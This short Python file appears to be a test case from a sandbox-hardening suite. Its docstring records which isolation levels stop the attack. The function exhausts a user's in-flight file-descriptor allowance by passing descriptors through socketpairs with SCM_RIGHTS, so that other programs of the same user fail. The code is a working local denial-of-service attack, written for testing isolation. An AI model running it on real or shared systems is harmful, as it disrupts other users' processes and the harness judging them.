"""Keeps open files in flight, of which a user may have so many in all: then nobody of the same user can send one.

Seen: the programs beside it have other verdicts, or the harness is disturbed.
Stopped at: strict, standard.
Works: where the program runs as the user of the harness, with as high a limit on open files.
Verdict: wrong, raised, timed_out.
"""
import array
import os
import resource
import socket
import time


def attack():
    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    kept = []
    files = array.array("i", [os.open("/dev/null", os.O_RDONLY)] * 250)
    try:
        while True:
            pair = socket.socketpair()
            kept.append(pair)
            pair[0].setblocking(False)
            for _ in range(50):
                pair[0].sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, files)])
    except OSError:
        time.sleep(3)
